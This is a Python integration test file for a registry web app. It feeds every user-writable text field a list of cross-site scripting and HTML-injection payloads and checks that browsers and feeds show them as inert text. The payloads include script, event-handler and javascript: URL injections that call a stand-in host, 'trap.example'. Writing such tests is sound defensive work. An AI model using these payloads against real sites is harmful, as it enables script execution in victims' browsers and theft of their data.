"""Threat 26: whatever is written into titles, descriptions, reasons and errors, a browser shows it and runs nothing."""

import asyncio
import re
import xml.etree.ElementTree as ET
from collections.abc import AsyncIterator
from html import unescape
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.async_api import BrowserContext, Dialog, Error, Page, Route

from registry.api.v1 import offering_service_pb2 as f
from registry.api.v1 import onboarding_service_pb2 as n
from registry.app import Running
from tests.integration.api import Api
from tests.integration.services.street import APPLIED, report
from tests.operated import CAMPAIGN, browsed, opened, operated

TRAP = "trap.example"
RUN = f"window.ran=1;alert(1);fetch('http://{TRAP}/')"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt src=//{TRAP}/x.js></sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f'<img src="http://{TRAP}/pixel">',
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<a id=x href=javascript:{RUN}>x</a>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"</td></table><body onload={RUN}>",
    f"</title></textarea></style><script>{RUN}</script>",
    f"<details open ontoggle={RUN}>",
    f"<meta http-equiv=refresh content='0;url=http://{TRAP}/'>",
    f"<base href=http://{TRAP}/><link rel=stylesheet href=http://{TRAP}/x.css>",
    f"<form action=http://{TRAP}/><button>x</button></form>",
    "{{ ''.__class__.__mro__ }}{% raw %}${7*7}<%= 7*7 %>",
    f"--><!--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;script&#62;",
]
ELEMENTS = {"feed", "id", "title", "updated", "link", "author", "name", "entry", "published", "category", "content"}
STRANGE = "meta[http-equiv], base, iframe, object, embed, form, main script, main style, main link, main img, main svg, [onload], [onerror], [onfocus], [autofocus]"


@pytest.fixture
async def poisoned(tmp_path: Path) -> AsyncIterator[Running]:
    """A registry in which every text that anybody may write is a payload."""
    async with operated(tmp_path) as (registry, api):
        await api.body("a", title=both(PAYLOADS[0]))
        for number, payload in enumerate(PAYLOADS):
            await poison(api, f"p{number}", payload)
        yield registry


def both(payload: str) -> dict[str, str]:
    return {"sv": payload, "en": f"{payload} "}


async def poison(api: Api, key: str, payload: str) -> None:
    """An offering, its release and its campaign, a subscription that fails, and one that is refused."""
    offering: dict[str, Any] = {"provider": "organisations/a", "title": both(payload), "description": both(payload)}
    made = f.CreateOfferingRequest(offering_id=key, offering={**offering, "terms": {"approval": 1}})
    await api.offerings.CreateOffering(made)
    await api.publish(key, notes=both(payload))
    campaign = {**CAMPAIGN, "title": both(payload), "release": f"offerings/{key}/releases/1.0.0"}
    fields = {"name": f"offerings/{key}", "campaigns": [campaign]}
    await api.offerings.UpdateOffering(f.UpdateOfferingRequest(offering=fields, update_mask={"paths": ["campaigns"]}))
    name = (await api.subscribe("a", key)).name
    await report(api, name, phase=APPLIED, attempts=1, last_error={"reason": "REFUSED", "message": payload})
    manual = f.CreateOfferingRequest(offering_id=f"m{key}", offering={**offering, "terms": {"approval": 2}})
    await api.offerings.CreateOffering(manual)
    await api.publish(f"m{key}")
    asked = (await api.subscribe("a", f"m{key}")).name
    await api.onboarding.RejectSubscription(n.RejectSubscriptionRequest(name=asked, reason=payload))


async def watched(context: BrowserContext) -> list[str]:
    """Gets whatever leaves a page for the trap, and every dialog."""
    caught: list[str] = []

    async def trapped(route: Route) -> None:
        caught.append(route.request.url)
        await route.abort()

    async def dismissed(dialog: Dialog) -> None:
        caught.append(dialog.message)
        await dialog.dismiss()

    await context.route(lambda url: TRAP in url, trapped)
    context.on("dialog", dismissed)
    return caught


async def harmless(page: Page, caught: list[str]) -> None:
    """Nothing ran, and nothing is there that our pages do not have themselves."""
    assert await page.evaluate("window.ran") is None
    assert await page.evaluate("selector => document.querySelectorAll(selector).length", STRANGE) == 0
    assert await page.evaluate("document.scripts.length") == 1
    assert caught == []


@pytest.mark.parametrize("bypass_csp", [True, False], ids=["escaped", "policy"])
async def test_threat_26_a_browser_shows_what_was_written_and_runs_nothing(
    tmp_path: Path, poisoned: Running, bypass_csp: bool
) -> None:
    """By the escaping alone, and with the policy as well."""
    async with browsed(tmp_path, bypass_csp=bypass_csp) as (context, said):
        caught = await watched(context)
        page = await opened(context, poisoned)
        await harmless(page, caught)
        shown = await page.inner_text("#late-shown")
        for payload in PAYLOADS:
            assert squeezed(payload) in squeezed(shown)
        for number in range(len(PAYLOADS) if bypass_csp else 1):
            for key in (f"p{number}", f"mp{number}"):
                await page.goto(f"http://{poisoned.web_address}/ops/subscriptions/a/use-{key}")
                await harmless(page, caught)
                assert squeezed(PAYLOADS[number]) in squeezed(await page.inner_text("main"))
        assert said == []


def squeezed(text: str) -> str:
    """Without the white space that a browser folds, and without what a long text is cut by."""
    return "".join(text.split())


INSERTED = """payload => new Promise(done => {
    const refused = [];
    Object.defineProperty(window, "ran", { set: () => done("it ran") });
    document.addEventListener("securitypolicyviolation", event => {
        if (refused.push(event.effectiveDirective) === 3) done(refused.sort().join(" "));
    });
    document.body.append(document.createRange().createContextualFragment(payload));
})"""


async def test_threat_26_what_got_in_all_the_same_would_not_run(tmp_path: Path) -> None:
    """The second lock: markup that reached the page by a fault of ours."""
    payload = f'<script>{RUN}</script><svg onload="{RUN}"></svg><img src="http://{TRAP}/pixel">'
    async with operated(tmp_path) as (registry, _api), browsed(tmp_path) as (context, _said), asyncio.timeout(60):
        caught = await watched(context)
        page = await opened(context, registry)
        assert await page.evaluate(INSERTED, payload) == "img-src script-src-attr script-src-elem"
        assert caught == []


async def pages(web: httpx.AsyncClient, form: str) -> AsyncIterator[httpx.Response]:
    """Every page of the feed of everything."""
    url = f"/feeds/all.{form}"
    while url:
        page = await web.get(url)
        assert page.headers["x-content-type-options"] == "nosniff"
        assert "html" not in page.headers["content-type"]
        yield page
        found = re.search(r'rel="next"[^>]*href="([^"]+)"', page.text) if form == "atom" else None
        url = page.json().get("next_url", "") if form == "json" else unescape(found[1]) if found else ""


async def test_threat_26_feeds_hold_it_as_text(tmp_path: Path, poisoned: Running) -> None:
    texts = items = ""
    async with httpx.AsyncClient(base_url=f"http://{poisoned.web_address}", timeout=60, trust_env=False) as web:
        async for page in pages(web, "atom"):
            elements = list(ET.fromstring(page.content).iter())  # noqa: S314 - of our own server
            assert {each.tag.partition("}")[2] for each in elements} <= ELEMENTS
            texts += "".join(each.text or "" for each in elements)
        async for page in pages(web, "json"):
            items += "".join(each["title"] + each["content_text"] for each in page.json()["items"])
    assert all(payload in texts and payload in items for payload in PAYLOADS)
    async with browsed(tmp_path) as (context, _said):
        caught = await watched(context)
        for form in ("atom", "json"):
            shown = await context.new_page()
            try:
                await shown.goto(f"http://{poisoned.web_address}/feeds/all.{form}")
            except Error as error:
                assert "Download" in str(error)  # noqa: PT017 - a browser may as well save it as show it
                continue
            assert await shown.evaluate("window.ran") is None
        assert caught == []
